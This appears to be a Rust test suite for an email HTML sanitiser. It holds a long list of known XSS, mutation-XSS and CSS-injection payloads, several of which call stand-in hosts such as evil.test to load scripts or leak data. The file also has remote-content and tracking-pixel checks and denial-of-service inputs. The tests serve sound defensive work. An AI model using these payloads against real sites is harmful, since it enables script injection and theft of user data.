//! Known tricks against sanitisers, tricks that only mail has, and what real mail must keep.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
use super::tag::{Piece, Pieces};
use super::*;
use proptest::prelude::*;
use std::time::{Duration, Instant};

fn safe(html: &str) -> SafeHtml {
    let safe = sanitise(html, &Policy::default());
    assert_safe(&safe.html, html);
    safe
}

fn shown(html: &str) -> String {
    let html = safe(html).html;
    html.strip_prefix("<div class=\"m-mail\">").and_then(|h| h.strip_suffix("</div>")).unwrap_or(&html).to_owned()
}

/// What no answer may have, whatever the question.
fn assert_safe(answer: &str, question: &str) {
    let mut pieces = Pieces::new(answer);
    let mut is_first = true;
    while let Some(piece) = pieces.next() {
        let Piece::Start(tag) = piece else { continue };
        if tag.name == "style" && is_first {
            let css = pieces.raw_text("style");
            assert!(!css.contains(['<', '\\']) && !css.contains("@import") && !css.contains("url(\"http"), "{question:?}: {css}");
            continue;
        }
        is_first = false;
        assert!(names::TAGS.contains(&tag.name.as_str()), "{question:?}: {answer}");
        let own = names::TAG_ATTRIBUTES.iter().find(|(name, _)| *name == tag.name).map(|(_, a)| *a).unwrap_or_default();
        for (name, _) in &tag.attributes {
            let value = tag.value(name).unwrap();
            assert!(*name == "rel" || names::ATTRIBUTES.contains(name) || own.contains(name), "{question:?}: {answer}");
            match *name {
                "href" => {
                    assert!(value.starts_with("#m-") || url::link(&value).as_ref() == Some(&value), "{question:?}: {answer}")
                }
                "src" | "background" => assert!(matches!(url::target(&value), url::Target::Picture(_)), "{question:?}: {answer}"),
                "style" => {
                    let lower = value.to_ascii_lowercase();
                    for bad in
                        ["expression", "url(\"http", "behavior", "binding", "position", "javascript", "@import", "/*", "\\"]
                    {
                        assert!(!lower.contains(bad), "{question:?}: {answer}");
                    }
                }
                "id" | "name" | "class" => assert!(value.split(' ').all(|name| name.starts_with("m-")), "{question:?}: {answer}"),
                _ => {}
            }
        }
    }
}

/// From the usual lists (OWASP's, html5sec's, DOMPurify's and ammonia's tests), mutated parsers' ones, and mail's own.
const TRICKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=x></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<script\x0cx>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src='x' ONERROR=\"alert(1)\" onload=x>",
    "<img =x src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=jAvAsCrIpT:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=\"jav\nascript:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1)\">",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.test/\">x</a>",
    "<a href=\"\\\\evil.test\\share\">x</a>",
    "<a href=\"/api/delete\">x</a>",
    "<a href=\"?logout\">x</a>",
    "<a href=x target=_top onclick=alert(1)>x</a>",
    "<a href=\"https://x.test\" ping=\"https://evil.test/\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<form action=//evil.test/><input name=password type=password><button formaction=javascript:x>Go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<title><img src=\"</title><img src onerror=alert(1)//\"></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><img title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<iframe><img title=\"</iframe><img src onerror=alert(1)>\"></iframe>",
    "<plaintext><img src onerror=alert(1)>",
    "<style><img title=\"</style><img src onerror=alert(1)>\"></style>",
    "<style>*{x:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style>*{content:'\\3c/style><img src=x onerror=alert(1)>'}</style>",
    "<style>.x{color:red}</style><style>@import url(//evil.test/x.css);</style>",
    "<style>@import '//evil.test/x.css'</style>",
    "<style>@im\\port 'http://evil.test'</style>",
    "<style><!-- .x{background:url(http://evil.test/a)} --></style>",
    "<style>@font-face{font-family:x;src:url(http://evil.test/f)}</style>",
    "<style>body{behavior:url(x.htc)}</style>",
    "<style>input[value^=a]{background:url(http://evil.test/a)}</style>",
    "<style>#app{position:fixed}</style>",
    "<style>html{display:none}</style>",
    "<style>.a{}} * {color:red}</style>",
    "<style>@media screen{.a{color:red}}} *{x:y}</style>",
    "<style>+.x{color:red}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1);//\">",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/x-scriptlet data=//evil.test/x.html></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x.class></applet>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\"></style></h1>",
    "<table><td background=\"javascript:alert(1)\">",
    "<table><caption><svg><title><table><caption></caption></table><style><a id=\"</style><img src onerror=alert(1)>\"></style>",
    "<template><script>alert(1)</script></template>",
    "<template><div shadowrootmode=open><script>alert(1)</script></template>",
    "<a><table><a></table><p></a><img src=x onerror=alert(1)>",
    "<p><b><i><p></b><img src=x onerror=alert(1)></i>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
    "</br onmouseover=alert(1)>",
    "</p/onclick=alert(1)><img/src/onerror=alert(1)>",
    "<div style=\"width:expression(alert(1))\">",
    "<div style=\"width:exp/**/ression(alert(1))\">",
    "<div style=\"width:e\\78pression(alert(1))\">",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"background:url('http://evil.test/t.gif')\">",
    "<div style=\"background:u\\72l(http://evil.test/t.gif)\">",
    "<div style=\"background:url(\\68ttp://evil.test/t.gif)\">",
    "<div style=\"background-image:image-set('http://evil.test/t.gif' 1x)\">",
    "<div style=\"background-image:-webkit-image-set(url(http://evil.test/t.gif) 1x)\">",
    "<div style=\"background:linear-gradient(red,url(http://evil.test/t.gif))\">",
    "<div style=\"list-style:url(http://evil.test/t.gif)\">",
    "<div style=\"cursor:url(http://evil.test/t.cur),auto\">",
    "<div style=\"content:url(http://evil.test/t.gif)\">",
    "<div style=\"-moz-binding:url(http://evil.test/x.xml#xss)\">",
    "<div style=\"behavior:url(#default#time2)\">",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">phish</div>",
    "<div style=\"position&#58;absolute\">x</div>",
    "<div style=\"pos\\69tion:fixed\">x</div>",
    "<div style=\"margin:-9999px 0 0 -100%\">x</div>",
    "<div style=\"margin-top:calc(0px - 900px)\">x</div>",
    "<div style=\"color:red;}*{color:blue\">x</div>",
    "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
    "<div style=\"color:red\" style=\"behavior:url(x)\">x</div>",
    "<div style=\"filter:url(http://evil.test/f.svg#x);mask:url(http://evil.test/m.svg)\">x</div>",
    "<div style=\"src:url(http://evil.test)\">x</div>",
    "<div style=\"background:url(//evil.test/a) url(//evil.test/b)\">x</div>",
    "<body background=\"http://evil.test/t.gif\" onload=alert(1) style=\"position:fixed\">x",
    "<html onload=alert(1)><head><body class=x id=y>x",
    "<body><body onpageshow=alert(1)>",
    "<div id=app class=\"toolbar modal\">clobber</div>",
    "<img name=getElementById><a id=location>x</a>",
    "<a name=\"x\"></a><a href=\"#x\">x</a>",
    "<div dir=rtl lang=\"x\"onclick=alert(1)>",
    "<div title=\"&lt;/div&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</div>",
    "<div title='\"><script>alert(1)</script>'>x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<\u{0}script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<img\u{b}src=x\u{b}onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<div <img src=x onerror=alert(1)>>",
    "<a href=https://x.test/\"onmouseover=alert(1)>x</a>",
    "<image src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<picture><source srcset=\"http://evil.test/a 1x, //evil.test/b 2x\"><img src=cid:x></picture>",
    "<img srcset=\"http://evil.test/a 1x\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html,x\">",
    "<img src=\"cid:x\" onerror=alert(1)>",
    "<img src=\"blob:x\">",
    "<map name=x><area shape=default href=javascript:alert(1)></map>",
    "<img usemap=#x src=x>",
    "<v:shape style=\"behavior:url(#default#VML)\"><v:imagedata src=\"http://evil.test/t.gif\"></v:shape>",
    "<o:p onclick=alert(1)>x</o:p>",
    "<table background=//evil.test/t.gif><tr background='http://evil.test/r.gif'><td background=\"https://evil.test/d.gif\">x",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "<ins cite=javascript:x datetime=x>x</ins>",
    "<dialog open><form method=dialog>x</form></dialog>",
    "<slot onslotchange=alert(1)></slot>",
    "<portal src=//evil.test></portal>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onconnected=alert(1)>x</custom-element>",
    "<div contenteditable onbeforeinput=alert(1) autofocus tabindex=1>x</div>",
    "<div popover id=x></div><button popovertarget=x>x</button>",
    "<a href=\"https://x.test/\u{202e}moc\">x</a>",
    "<a href=\"HTTPS://X.TEST/ a\tb\nc\">x</a>",
];

#[test]
fn no_trick_works() {
    for trick in TRICKS {
        let once = safe(trick).html;
        for context in [
            "<div>{}</div>",
            "<table><tr><td>{}",
            "<p><b>{}",
            "<ul><li>{}</ul>",
            "<svg>{}</svg>",
            "<math>{}",
            "<style>{}</style>{}",
            "<!--{}-->",
            "<a title='{}'>{}",
        ] {
            safe(&context.replace("{}", trick));
        }
        // What was made safe stays as it is, but for the names that get their prefix again.
        let again = sanitise(&once, &Policy::default()).html;
        assert_safe(&again, &once);
        assert!(!once.contains("alert(1)") || !once.contains("<script"), "{trick}: {once}");
    }
}

#[test]
fn real_mail_stays() {
    for same in [
        "<p>Hello <b>Ann</b>, <i>this</i> is <u>it</u>.</p>",
        "<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" bgcolor=\"#ffffff\"><tbody><tr><td align=\"center\" valign=\"top\" colspan=\"2\">x</td></tr></tbody></table>",
        "<font face=\"Arial\" size=\"2\" color=\"red\">x</font>",
        "<div style=\"color:#333333;font-family:Arial, &quot;Segoe UI&quot;, sans-serif;font-size:14px;padding:0 10px!important;\">x</div>",
        "<blockquote type=\"cite\">x</blockquote>",
        "<ul><li>one</li><li>two</li></ul>",
        "<pre>a\n  b</pre>",
        "a &lt; b &amp; c",
        "<img alt=\"A boat\" src=\"data:image/png;base64,AAAA\">",
    ] {
        assert_eq!(shown(same), same);
    }
    assert_eq!(shown("<P>one<p>two<br/>three"), "<p>one</p><p>two<br>three</p>");
    assert_eq!(
        shown("<TABLE><TR><TD>1<TD>2<TR><TD>3</TABLE>x"),
        "<table><tbody><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></tbody></table>x"
    );
    assert_eq!(
        shown("<a href='https://x.test/?a=1&amp;b=2'>x</a>"),
        "<a href=\"https://x.test/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"
    );
    assert_eq!(shown("<div id=a class='b c'>x</div>"), "<div id=\"m-a\" class=\"m-b m-c\">x</div>");
    assert_eq!(shown("x<script>y</script>z<!-- c -->"), "xz");
    assert_eq!(
        safe("<body bgcolor=#eee style='color:red'><p>x</body>").html,
        "<div class=\"m-mail\" bgcolor=\"#eee\" style=\"color:red;\"><p>x</p></div>"
    );
}

#[test]
fn style_sheets_reach_only_into_the_box() {
    let html = "<style>body,p.a > b:hover{color:red;position:fixed} #x{margin:1px}@media (max-width:600px){.w{width:100%!important}}\
        @import url('https://x.test/a.css');@font-face{src:url(https://x.test/f.woff)} a[href]{color:red} .y{background:url(https://x.test/b.png) #fff}</style>x";
    let safe = safe(html);
    assert_eq!(
        safe.html,
        "<style>.m-mail,.m-mail p.m-a > b:hover{color:red;}.m-mail #m-x{margin:1px;}@media (max-width:600px){.m-mail .m-w{width:100%!important;}}\
         .m-mail .m-y{background:#fff;}</style><div class=\"m-mail\">x</div>"
    );
    let told: Vec<(&str, &str)> = safe.remote.iter().map(|r| (r.kind.word(), r.url.as_str())).collect();
    assert_eq!(
        told,
        [("style-sheet", "https://x.test/a.css"), ("font", "https://x.test/f.woff"), ("style", "https://x.test/b.png")]
    );
}

#[test]
fn remote_content_is_found_and_blocked() {
    let html = "<img src='https://x.test/a.png'><img src=//x.test/b.png><img srcset='https://x.test/c.png 2x'>\
        <table background=https://x.test/d.png><td style='background-image:url(https://x.test/e.png)'></table>\
        <video src=https://x.test/f.mp4 poster=https://x.test/g.png></video><link rel=stylesheet href=https://x.test/h.css>\
        <iframe src=https://x.test/i.html></iframe><img src=cid:there><img src=cid:not>";
    let told =
        safe(html).remote.iter().map(|r| format!("{} {}", r.kind.word(), r.url.rsplit('/').next().unwrap())).collect::<Vec<_>>();
    assert_eq!(
        told,
        [
            "image a.png",
            "image b.png",
            "image c.png",
            "background d.png",
            "style e.png",
            "media f.mp4",
            "media g.png",
            "style-sheet h.css",
            "frame i.html"
        ]
    );
    let resolve = |id: &str| (id == "there@x").then(|| "/part/2".to_owned());
    let proxy = |content: &RemoteContent| Some(format!("/proxy?{}", content.url.len()));
    let policy = Policy { remote: Remote::Rewrite(&proxy), resolve_cid: &resolve };
    let html =
        "<img src='cid:there%40x'><img src=cid:no><img src=https://x.test/a.png><div style='background:url(https://x.test/b)'>";
    assert_eq!(
        sanitise(html, &policy).html,
        "<div class=\"m-mail\"><img src=\"/part/2\"><img><img src=\"/proxy?20\"><div style=\"background:url(&quot;/proxy?16&quot;);\"></div></div>"
    );
    let allowed = sanitise(
        "<img src=https://x.test/a.png><img src=https://x.test/o.png width=1>",
        &Policy { remote: Remote::Allow, ..Policy::default() },
    );
    assert_eq!(allowed.html, "<div class=\"m-mail\"><img src=\"https://x.test/a.png\"><img width=\"1\"></div>");
}

#[test]
fn tracking_pixels_are_named() {
    let sign = |html: &str| safe(html).remote[0].tracker;
    assert_eq!(sign("<img src=https://x.test/a width=1 height=1>"), Some(TrackerSign::Tiny));
    assert_eq!(sign("<img src=https://x.test/a style='width:1px'>"), Some(TrackerSign::Tiny));
    assert_eq!(sign("<img src=https://x.test/a height=0>"), Some(TrackerSign::Tiny));
    assert_eq!(sign("<img src=https://x.test/a style='display: none !important'>"), Some(TrackerSign::Hidden));
    assert_eq!(sign("<img src=https://x.test/a hidden>"), Some(TrackerSign::Hidden));
    assert_eq!(sign("<img src='https://x.list-manage.com/track/open.php?u=1'>"), Some(TrackerSign::Known));
    assert_eq!(sign("<img src='https://u1.ct.sendgrid.net/wf/open?upn=x'>"), Some(TrackerSign::Known));
    assert_eq!(sign("<img src=https://x.test/a.png width=600 height=100 style='opacity:0.9'>"), None);
}

/// 2 MB each in a release build; unoptimised code gets less.
#[test]
fn nobody_gets_much_time() {
    let (len, most) =
        if cfg!(debug_assertions) { (64 * 1024, Duration::from_secs(20)) } else { (2 * 1024 * 1024, Duration::from_secs(2)) };
    let many = |piece: &str| piece.repeat(len / piece.len());
    for evil in [
        many("<div>"),
        many("<b>"),
        many("<p><b id=1>"),
        many("<a href=x>"),
        many("<table><tr><td>"),
        many("<svg>"),
        many("<svg><p>"),
        many("<!--"),
        many("<style>"),
        many("</div>"),
        many("<"),
        many("&"),
        format!("<div {}>", many("a=1 ")),
        format!("<div style=\"{}\">", many("a:(")),
        format!("<style>{}", many("a{b:(")),
        format!("<style>{}", many("@media x{")),
        many("<b><table><td></b></td></table>"),
        many("<p>x</p><i><p>"),
        many("<img src=https://x.test/>"),
    ] {
        let begun = Instant::now();
        let answer = sanitise(&evil, &Policy::default());
        let took = begun.elapsed();
        println!("{:>9.3} ms {}", took.as_secs_f64() * 1_000.0, evil.get(..20).unwrap());
        assert!(answer.html.len() < 8 * len, "{}", evil.get(..20).unwrap());
        assert!(took < most, "{}: {took:?}", evil.get(..20).unwrap());
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]
    #[test]
    fn anything_is_safe(html in "(<(script|style|img|a|p|b|td|table|tr|svg|math|title|div|body|!--|/p|/style|/table|/b|/svg)( (src|href|style|onerror|class|id)=('|\"|)(javascript:x|https://x.test/y|url\\(http://x\\)|position:fixed|&#106;avascript:x|\\PC{0,5})('|\"|))?(>|)|\\PC{0,6}|\"|'|>|-->){0,40}") {
        safe(&html);
    }
}
